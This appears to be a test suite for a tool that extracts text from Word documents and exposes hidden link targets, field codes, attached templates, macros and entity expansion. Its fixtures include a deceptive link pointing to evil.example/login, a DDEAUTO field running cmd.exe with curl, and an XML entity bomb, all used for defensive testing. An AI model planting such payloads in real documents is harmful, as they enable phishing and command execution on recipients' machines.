import { describe, expect, test } from 'vitest'
import { docxParts, packed, relationsXml, wordXml } from '../../../../test/fixtures/by-hand/office-by-hand.ts'
import { readingOf, textsOf } from '../../../../test/fixtures/by-hand/reading.ts'

const run = (text: string) => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`
const line = (...runs: string[]) => `<w:p>${runs.join('')}</w:p>`
const field = (code: string, shown: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(shown)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`

async function body(content: string, relations: Parameters<typeof docxParts>[1] = {}): Promise<string> {
  return (await textsOf(packed(docxParts(content, relations)), 'word')).body ?? ''
}

describe('a text document', () => {
  test('joins runs, and puts paragraphs on lines', async () => {
    const bold = '<w:r><w:rPr><w:b/></w:rPr><w:t>.exam</w:t></w:r>'
    expect(await body(line(run('https://a'), bold, run('ple/x')) + line(run('second')))).toBe(
      'https://a.example/x\nsecond',
    )
  })

  test('puts cells of a table between tabs, their paragraphs on one line', async () => {
    const cell = (...lines: string[]) => `<w:tc>${lines.map((text) => line(run(text))).join('')}</w:tc>`
    const table = `<w:tbl><w:tr>${cell('host')}${cell('note')}</w:tr><w:tr>${cell('a.example')}${cell('one', 'two')}</w:tr></w:tbl>`
    expect(await body(`${line(run('before'))}${table}${line(run('after'))}`)).toBe(
      'before\nhost\tnote\na.example\tone two\nafter',
    )
  })

  test('writes a link with where it leads, unless it shows that', async () => {
    const link = (id: string, text: string) => `<w:hyperlink r:id="${id}">${text}</w:hyperlink>`
    expect(
      await body(
        line(
          run('go '),
          link('r1', run('my') + run('bank.example')),
          run(' or '),
          link('r2', run('https://b.example')),
        ),
        { r1: ['hyperlink', '!https://evil.example/login'], r2: ['hyperlink', '!https://b.example'] },
      ),
    ).toBe('go [mybank.example](https://evil.example/login) or https://b.example')
  })

  test('reads links in fields, their code in pieces, and a place behind them', async () => {
    const code = 'HYPERLINK "https://ev</w:instrText></w:r><w:r><w:instrText>il.example/x" \\o "tip" '
    expect(await body(line(run('see '), field(code, 'here'), run(' now')))).toBe(
      'see [here](https://evil.example/x) now',
    )
    expect(
      await body(`<w:p><w:fldSimple w:instr='HYPERLINK "https://c.example"'>${run('c')}</w:fldSimple></w:p>`),
    ).toBe('[c](https://c.example)')
    expect(await body(line(field(' PAGE ', '7')))).toBe('7')
  })

  test('shows fields that take something in or run something', async () => {
    expect(await body(line(field('INCLUDEPICTURE "https://t.example/p.png" \\d', '')))).toBe(
      '[picture](https://t.example/p.png)',
    )
    expect(
      await body(line(field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k curl https://d.example"', ''))),
    ).toContain('https://d.example')
  })

  test('leaves out what a tracked change deleted, and the second form of a text box', async () => {
    const deleted = '<w:del><w:r><w:delText>old.example</w:delText></w:r></w:del>'
    const inserted = `<w:ins>${run('new.example')}</w:ins>`
    const box = `<w:txbxContent>${line(run('boxed'))}</w:txbxContent>`
    const shape = `<w:r><mc:AlternateContent><mc:Choice>${box}</mc:Choice><mc:Fallback>${box}</mc:Fallback></mc:AlternateContent></w:r>`
    expect(await body(line(run('a '), deleted, inserted, shape, run(' end')))).toBe(
      'a new.example end\nboxed',
    )
  })

  test('names what stands beside the body, and lists what leads out of the file', async () => {
    const texts = await textsOf(
      packed(
        docxParts(
          line(run('body')),
          {
            r1: ['header', 'header1.xml'],
            r2: ['footnotes', 'footnotes.xml'],
            r3: ['comments', 'comments.xml'],
            r4: ['settings', 'settings.xml'],
          },
          {
            'word/header1.xml': wordXml('hdr', line(run('head'))),
            'word/footnotes.xml': wordXml('footnotes', `<w:footnote>${line(run('note'))}</w:footnote>`),
            'word/comments.xml': wordXml('comments', `<w:comment>${line(run('remark'))}</w:comment>`),
            'word/settings.xml': wordXml('settings', ''),
            'word/_rels/settings.xml.rels': relationsXml({
              r1: ['attachedTemplate', '!https://t.example/t.dotm'],
            }),
            'docProps/core.xml':
              '<cp:coreProperties xmlns:cp="a" xmlns:dc="b"><dc:title>Report</dc:title><dc:creator>Ann</dc:creator></cp:coreProperties>',
          },
        ),
      ),
      'word',
    )
    expect(texts).toEqual({
      body: 'body',
      header: 'head',
      footnotes: 'note',
      comments: 'remark',
      properties: 'title: Report\nauthor: Ann',
      'links out of the document': '[attached template](https://t.example/t.dotm)',
    })
  })

  test('hands over what is embedded, and says that macros are not read', async () => {
    const { files } = await readingOf(
      packed(
        docxParts(
          line(run('x')),
          { r1: ['package', 'embeddings/book.xlsx'], r2: ['vbaProject', 'vbaProject.bin'] },
          { 'word/embeddings/book.xlsx': Buffer.from('inner'), 'word/vbaProject.bin': Buffer.from('code') },
        ),
      ),
      'word',
    )
    expect(
      files.map(({ path, bytes, problem }) => [path, bytes && Buffer.from(bytes).toString(), problem]),
    ).toEqual([
      ['book.xlsx', 'inner', null],
      ['vbaProject.bin', null, 'Macros (VBA): their code is not read.'],
    ])
  })

  test('says what is wrong with a part, and keeps what came before', async () => {
    const parts = docxParts(line(run('good')))
    const broken = `${parts['word/document.xml']}`.replace('</w:body>', '<w:p></w:q>')
    const { texts, answer } = await readingOf(packed({ ...parts, 'word/document.xml': broken }), 'word')
    expect(answer).toBeNull()
    expect(texts[0]?.text).toBe('good')
    expect(texts[0]?.problem).toMatch(
      /^Not all of it was read: in its part word\/document\.xml, it is not well-formed/,
    )
  })

  test('says of a document of pictures alone that they are not read', async () => {
    const { answer } = await readingOf(
      packed(docxParts(line(), {}, { 'word/media/image1.png': 'x' })),
      'word',
    )
    expect(answer).toBe('The document contains only pictures: text in them cannot be read.')
  })

  test('refuses entities', async () => {
    const parts = docxParts(line(run('x')))
    const bomb = `<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>${`${parts['word/document.xml']}`.replace(/^<\?xml[^>]*>/, '')}`
    const { texts } = await readingOf(packed({ ...parts, 'word/document.xml': bomb }), 'word')
    expect(texts[0]).toMatchObject({ text: '', problem: expect.stringContaining('entities') })
  })
})
